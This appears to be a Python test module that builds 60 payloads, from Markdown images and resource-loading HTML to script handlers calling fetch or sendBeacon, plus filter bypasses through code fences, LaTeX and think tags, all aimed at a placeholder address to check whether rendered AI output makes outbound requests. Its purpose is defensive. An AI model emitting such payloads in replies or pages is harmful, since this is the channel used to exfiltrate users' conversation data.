"""Texts with which a model, a saved conversation or a link tries to reach another address."""

from __future__ import annotations


def payloads(site: str) -> tuple[str, ...]:
    """Return 60 texts that each try to reach a site, such as "http://127.0.0.1:9/"."""
    host = site.removeprefix("http:")
    image = f"<img src={site}i onerror=fetch('{site}o')>"
    return (
        # pictures of Markdown
        f"![a]({site}1)",
        f"!![a]({site}2)",
        f"!![[a]]({site}3)",
        f"\\`![x]({site}4)\\`",
        f"`` ` `` ![x]({site}5) `",
        f"text ``` ![x]({site}6) more",
        f"````\n```\n````\n![x]({site}7)\n```\n",
        f"~~~\n`\n~~~\n![x]({site}8) `",
        f"para\n\n    `\n\n![x]({site}9)",
        f"![a][1]\n\n[1]: {site}10",
        f"![][1]\n\n[1]: <{site}11> 'title'",
        f"! [a]({site}12) !&#91;a]({site}12) &#33;[e]({site}12)",
        f"![](<{site}13>)",
        f"> ![q]({site}14)\n\n- ![l]({site}14)",
        f"| a |\n|---|\n| ![t]({site}15) |",
        f"[![in]({site}16)]({site}16b)",
        f"![n\n]({site}17)",
        f"# ![h]({site}18)",
        f"*![e]({site}19)* **![s]({site}19)** ~~![d]({site}19)~~",
        "![a]({host}20)",
        f"![a]({site}21 'x\" onerror=\"fetch(1)')",
        f"1. ![a]({site}22)\n   ![b]({site}22)",
        # HTML that loads
        image,
        f"<img srcset='{site}24 1x'>",
        f"<picture><source srcset={site}25><img></picture>",
        f"<video src={site}26 poster={site}26p autoplay></video>",
        f"<audio src={site}27 autoplay></audio>",
        f"<iframe src={site}28></iframe>",
        f"<iframe srcdoc='<img src={site}29>'></iframe>",
        f"<object data={site}30></object><embed src={site}30>",
        f"<link rel=stylesheet href={site}31><link rel=prefetch href={site}31>"
        f"<link rel=preload as=image href={site}31>",
        f"<style>@import '{site}32';body{{background:url({site}32)}}</style>",
        f"<div style='background:url({site}33)'>x</div>",
        f"<div style='list-style-image:url({site}34);cursor:url({site}34),auto'>x</div>",
        f"<style>@font-face{{font-family:q;src:url({site}35)}}</style><p style=font-family:q>",
        f"<table background={site}36><tr><td background={site}36>x</td></tr></table>",
        f"<body background={site}37><input type=image src={site}37>",
        f"<svg><image href={site}38 /><use href='{site}38#a'/></svg>",
        f"<svg><feImage href={site}39 /><style>*{{fill:url({site}39#x)}}</style></svg>",
        f"<math><mtext>{image}</mtext></math>",
        f"<meta http-equiv=refresh content='0;url={site}41'>",
        f"<base href={site}42><img src=x>",
        f"<form action={site}43><button autofocus onfocus=this.click()>x</button></form>",
        f"<track src={site}44><source src={site}44><bgsound src={site}44>",
        # scripts
        f"<script>fetch('{site}45')</script><script src={site}45></script>",
        f"<svg onload=fetch('{site}46')></svg>",
        f"<details open ontoggle=fetch('{site}47')><summary>x</summary></details>",
        f"<input autofocus onfocus=fetch('{site}48')>",
        f"<img src=x onerror=\"navigator.sendBeacon('{site}49');new WebSocket('ws:{host}49')\">",
        f"<template><script>fetch('{site}50')</script></template>{image}",
        f"<noscript><p title='</noscript>{image}'>",
        f"<a href=javascript:fetch('{site}52') id=x>x</a><a ping={site}52 href=#>x</a>",
        # the ways around it
        f'```mermaid\ngraph TD\nA["{image}"] --> B\n```',
        f"```html\n{image}\n```\n\n`{image}`",
        f"<think>\\`![x]({site}55)\\`</details>{image} ``` {image}</think>ok",
        f"$\\text{{{image}}}$ $$\\includegraphics{{{site}56}}$$ $\\href{{{site}56}}{{x}}$",
        f"\\[\\class{{a}}{{b}} \\style{{background:url({site}57)}}{{x}}\\]",
        f"a ```{image}\nb ``` {image}",
        f"&lt;img src={site}59&gt; &#60;img src={site}59&#62; \\<img src={site}59>",
        f"<x:y {image}<!-- {image} --!> {image} --> <![CDATA[{image}]]>",
    )
